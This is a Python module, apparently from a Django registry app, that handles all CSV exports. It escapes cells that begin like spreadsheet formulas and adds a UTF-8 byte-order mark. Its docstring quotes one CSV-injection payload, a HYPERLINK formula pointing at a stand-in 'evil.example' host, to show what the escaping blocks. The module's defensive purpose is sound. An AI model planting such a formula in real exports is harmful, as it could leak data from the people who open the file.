"""The one way the registry writes CSV: every public download, private export and file goes through here.

Two things every CSV needs, whoever reads it:

- **No formulas.** A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and
  some also after a tab or carriage return) as a formula: an entity named
  ``=HYPERLINK("http://evil.example/?leak", "Click me")`` would become a link, or a command, on the
  computer of whoever opens the public list. Such a cell is written with a leading apostrophe,
  which spreadsheets show as text (OWASP's advice for CSV injection). Numbers are left alone.
- **UTF-8 with a byte-order mark**, so that Excel in Japanese opens 口座 as 口座, not as mojibake.

``tests/integration/test_csv_exports.py`` checks every CSV the registry writes, and fails if a
module other than this one imports :mod:`csv`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any, Protocol

from django.http import StreamingHttpResponse

BOM = "\ufeff"
#: What a spreadsheet may read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Row = Sequence[Any]


class Writable(Protocol):
    """An open text stream, or a management command's ``self.stdout``."""

    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs: text starting like a formula gets ``'`` before it."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Line:
    """A file-like object whose ``write`` hands the line back, so rows can be streamed."""

    def write(self, value: str) -> str:
        return value


def lines(header: Row, rows: Iterable[Row], *, bom: bool = True) -> Iterator[str]:
    """The CSV text, line by line, starting with the byte-order mark (unless ``bom`` is false) and the header."""
    writer = csv.writer(_Line())
    yield (BOM if bom else "") + writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        yield writer.writerow([safe_cell(c) for c in row])


def dict_rows(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> Iterator[list[Any]]:
    """Rows given as dicts (like the AEF's tables), in the order of ``columns``."""
    for row in rows:
        yield [row.get(column, "") for column in columns]


def write(out: Writable, header: Row, rows: Iterable[Row], *, bom: bool = True) -> int:
    """Write the CSV to an open text stream; return how many rows (without the header).

    Standard output goes to other programs more often than to Excel: commands write it without
    the byte-order mark (``bom=False``), and with it to the files they are asked to write."""
    written = 0
    for line in lines(header, rows, bom=bom):
        out.write(line)
        written += 1
    return written - 1  # the header is no row


def write_file(path: Path, header: Row, rows: Iterable[Row]) -> int:
    """Write the CSV to ``path``; return how many rows."""
    with path.open("w", newline="", encoding="utf-8") as out:
        return write(out, header, rows)


def response(filename: str, header: Row, rows: Iterable[Row]) -> StreamingHttpResponse:
    """A CSV download, streamed (the credit search may be long)."""
    answer = StreamingHttpResponse(lines(header, rows), content_type="text/csv; charset=utf-8")
    answer["Content-Disposition"] = f'attachment; filename="{filename}"'
    return answer
